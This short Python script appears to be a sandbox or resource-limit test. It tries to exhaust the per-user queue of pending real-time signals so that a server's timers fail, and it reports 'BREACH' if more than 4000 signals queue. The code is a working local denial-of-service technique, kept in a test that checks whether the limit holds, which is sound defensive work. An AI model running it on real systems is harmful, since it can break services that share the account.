# attack: fill the queue of pending signals of the server's user, so that its timers fail
# must end: completed
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN + 1})
queued = 0
while queued < 20000 and libc.sigqueue(os.getpid(), signal.SIGRTMIN + 1, ctypes.c_void_p(0)) == 0:
    queued += 1
if queued > 4000:
    print("BREACH: queued", queued, "signals")
signal.signal(signal.SIGRTMIN + 1, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGRTMIN + 1})
print("held")
